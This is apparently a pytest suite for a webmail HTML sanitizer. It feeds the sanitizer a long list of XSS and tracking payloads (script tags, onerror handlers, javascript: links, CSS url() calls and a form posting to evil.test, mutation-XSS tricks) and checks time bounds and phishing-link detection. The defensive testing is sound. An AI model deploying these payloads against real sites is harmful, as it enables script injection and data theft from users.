"""Hostile HTML: a corpus of attacks, arbitrary input, and bounds on time and size."""

import re
import time
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from webui import balance, htmlview

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\n=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<img src='javascript:alert(1)'>",
    "<body onload=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text x=20 y=20>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math href='javascript:alert(1)'>x</math>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java&#x09;script:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='blob:x'>x</a><a href='file:///etc/passwd'>x</a>",
    "<iframe src='https://evil.test'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='https://evil.test/x.swf'></object><embed src='//evil.test'>",
    "<applet code=x></applet>",
    "<form action='https://evil.test'><input name=p><button>go</button></form>",
    "<isindex action='javascript:alert(1)'>",
    "<base href='https://evil.test/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.test'>",
    "<meta http-equiv='Content-Security-Policy' content=\"default-src *\">",
    "<link rel=stylesheet href='https://evil.test/x.css'>",
    "<style>@import 'https://evil.test/x.css'; body{background:url(https://evil.test/x)}</style>",
    "<p style='background:url(https://evil.test/x)'>x</p>",
    "<p style='background-image:u\\72l(https://evil.test/x)'>x</p>",
    "<p style='width:expression(alert(1))'>x</p>",
    "<p style='behavior:url(x.htc);-moz-binding:url(x)'>x</p>",
    "<p style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:9'>x</p>",
    "<p style='margin-left:-9999px;margin:0 -500px;text-indent:-900px'>x</p>",
    "<p style=\"color:red;/*\">x</p><p style='*/background:url(//evil.test)'>y</p>",
    "<p style='font-family:\"x;background:url(//evil.test/)\"'>x</p>",
    "<div style='content:url(https://evil.test/x)'>x</div>",
    "<img src='https://evil.test/p.gif'><img srcset='https://evil.test/p.gif 2x'>",
    "<img src='//evil.test/p.gif'><img src='http:evil.test/p.gif'>",
    "<img src='/s/dossier/1/vider'><img src='/deconnexion'>",
    "<a href='/s/ecrire?a=x'>interne</a><a href='../s/'>x</a><a href='?x'>y</a>",
    "<img src='/s/piece/1/1'>",
    "<video src='https://evil.test/v.mp4' poster='https://evil.test/p'></video><audio src=x></audio>",
    "<picture><source srcset='https://evil.test/x'><img src=x></picture>",
    "<table background='https://evil.test/x'><tr><td background='https://evil.test/y'>x</table>",
    "<body background='https://evil.test/x'>",
    "<input type=image src='https://evil.test/x'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<!--><script>alert(1)</script>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "</p><script>alert(1)",
    "<p title='<script>alert(1)</script>'>x</p>",
    '<p title="&quot;><script>alert(1)</script>">x</p>',
    "<a name='x' id='y' class='z' target='_self' ping='https://evil.test'>x</a>",
    "<a href='https://ok.test' rel='opener' target='_top' onclick='x()'>x</a>",
    "<marquee onstart=alert(1)>x</marquee><details open ontoggle=alert(1)>x</details>",
    "<x-custom onclick=alert(1)>x</x-custom><keygen autofocus onfocus=alert(1)>",
    "<button formaction='javascript:alert(1)'>x</button><select onfocus=alert(1)><option>x</select>",
    "<frameset onload=alert(1)><frame src=//evil.test></frameset>",
    "<img src=cid:unknown><img src='cid:logo'><a href='cid:logo'>x</a>",
    "<a href='mailto:x@y.z?body=a'>x</a><a href='tel:123'>y</a>",
    "<div><p><b><i></div></p></b></i><table><td><div></table></div>",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<script\x0c>alert(1)</script\x0c>",
    "<img/src=x/onerror=alert(1)>",
    "<a href=https://ok.test/?a=1&lt=2&copy=3>x</a>",
    "<<script>alert(1);//<</script>",
    "<img src=x:alert(1) onerror=eval(src)>",
    "<svg/onload=alert(1)//",
    "<a href='https://ok.test'\nonmouseover='x()'>x</a>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
]


def inline(name: str) -> str:
    return "/s/piece/7/1.2?image=1" if name == "logo" else ""


class Inspector(HTMLParser):
    """Reads the output as a browser would, and objects."""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in htmlview._TAGS, tag
        for name, value in attrs:
            value = value or ""
            assert not name.startswith("on"), name
            assert name in htmlview._KNOWN_ATTRIBUTES | {"rel", "target"}, name
            if name == "href":
                assert re.match(r"(https?:|mailto:|tel:|/s/piece/)", value, re.IGNORECASE), value
            if name == "src":
                assert value == "/s/piece/7/1.2?image=1", value
            if name == "style":
                assert "url" not in value.lower()
                assert not re.search(r"\((?!\d)|position|expression|behavior|\\|@", value), value
            if name == "target":
                assert value == "_blank"

    def handle_comment(self, data: str) -> None:
        raise AssertionError(data)

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(decl)

    def handle_pi(self, data: str) -> None:
        raise AssertionError(data)


def inspect(html: str) -> None:
    inspector = Inspector(convert_charrefs=True)
    inspector.feed(html)
    inspector.close()


@pytest.mark.parametrize("html", HOSTILE)
def test_corpus(html: str) -> None:
    for variant in (html, html.upper(), f"<div>{html}</div>", html.replace("'", '"'), html * 3, f"<table>{html}"):
        inspect(htmlview.clean(variant, inline).html)


@settings(max_examples=300, deadline=None)
@given(
    st.lists(st.sampled_from([*HOSTILE, "<", ">", "'", '"', "&", "=", "/", "--", "<p>", "</p>", "x", " "]), max_size=8)
)
def test_mixtures(pieces: list[str]) -> None:
    inspect(htmlview.clean("".join(pieces), inline).html)


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet=st.sampled_from("<>/=\"'&;#!-aAbBsSpPtT \n\0é()")))
def test_arbitrary_text(text: str) -> None:
    inspect(htmlview.clean(text, inline).html)


def test_remote_images_are_counted_and_inline_ones_are_ours() -> None:
    done = htmlview.clean("<img src=https://a.test/1><img src='//b.test/2'><img src=cid:logo><img src=cid:no>", inline)
    assert done.remote_images == 2
    assert done.html.count("<img") == 4
    assert done.html.count("/s/piece/7/1.2?image=1") == 1


def test_ordinary_mail_keeps_its_look() -> None:
    html = (
        '<table width="600" style="border:1px solid #ccc;color:rgb(1, 2, 3)"><tr><td align="center">'
        '<font face="Arial" size="2"><a href="https://ok.test/?a=1&amp;b=2">lien</a></font></td></tr></table>'
        "<blockquote><p>cité</p></blockquote><ul><li>un<li>deux</ul>"
    )
    done = htmlview.clean(html, inline).html
    assert 'width="600"' in done
    assert "border:1px solid" in done
    assert "color:rgb(1, 2, 3)" in done
    assert 'href="https://ok.test/?a=1&amp;b=2"' in done
    assert "<ul><li>un</li><li>deux</li></ul>" in done


@pytest.mark.parametrize(
    "piece",
    [
        *("<div>", "<b>", "<table><td>", "<p>", "</b>", "<!--", '<x a="', "<li>", "<ul><li>", "</div>", "<b></p>", "<"),
        *("<script>", "<a ", "=", "='", "<style>x", "<font size=1><p>", "<i><b></i></b>", "<table><b>", "<h1>", "<!"),
        *("&", "&amp;", "&a;", "<br>", "<a href='&'>", "<p style='a:b;c:d'>", "<a href=http://x>", "\0", "<p " * 3),
    ],
)
def test_time_is_bounded(piece: str) -> None:
    """A message made to cost a parser minutes (nesting, formatting elements, references) costs a moment."""
    begun = time.process_time()
    done = htmlview.clean(piece * (htmlview.MAX_OCTETS // len(piece)), inline)
    assert time.process_time() - begun < 3
    inspect(done.html[:100_000].rpartition("<")[0])


def test_depth_tags_and_size_are_bounded() -> None:
    deep = htmlview.clean("<div>" * 5000 + "x", inline).html
    assert deep.count("<div>") == balance.MAX_DEPTH
    many = htmlview.clean("<br>" * (balance.MAX_TAGS * 2), inline).html
    assert many.count("<br>") <= balance.MAX_TAGS + 1
    assert len(htmlview.clean("x" * (htmlview.MAX_OCTETS + 100), inline).html) == htmlview.MAX_OCTETS
    attributes = " ".join(f"title{number}=x" for number in range(1000)) + " title=y"
    htmlview.clean(f"<p {attributes}>x</p>", inline)


def test_declarations_and_comments_vanish() -> None:
    html = (
        "<!DOCTYPE html><?xml version='1.0'?><!-- a --><![if x]></ p><html><head><title>t</title></head><p>x</p></html>"
    )
    assert htmlview.clean(html, inline).html == "<p>x</p>"


def test_links_that_lie_are_named() -> None:
    def lies(html: str) -> tuple[tuple[str, str], ...]:
        return htmlview.suspicious_links(htmlview.clean(html, inline).html)

    assert lies('<a href="https://evil.test/x">https://www.ac-dijon.fr/login</a>') == (
        ("www.ac-dijon.fr", "evil.test"),
    )
    assert lies('<a href="https://evil.test"><b>ac-dijon.fr</b></a>') == (("ac-dijon.fr", "evil.test"),)
    assert lies('<a href="https://mail.ac-dijon.fr/x">www.ac-dijon.fr</a>') == ()
    assert lies('<a href="https://ac-dijon.fr">Cliquez ici. Merci.</a>') == ()
    assert lies('<a href="https://exemple.fr">document.pdf</a>') == ()
    assert htmlview.host("https://[x") == ""
    assert len(lies('<a href="https://evil.test">www.a{0}.fr</a>' * 50)) <= 10
    begun = time.process_time()
    htmlview.suspicious_links("<a href=" * 20_000 + '<a href="https://x.y">' * 5_000)
    assert time.process_time() - begun < 2


def test_document_is_ours_around_it() -> None:
    page = htmlview.document("<p>x</p>", "fr", 'A "titre" <b>')
    assert "&lt;b&gt;" in page
    assert '<base target="_blank">' in page
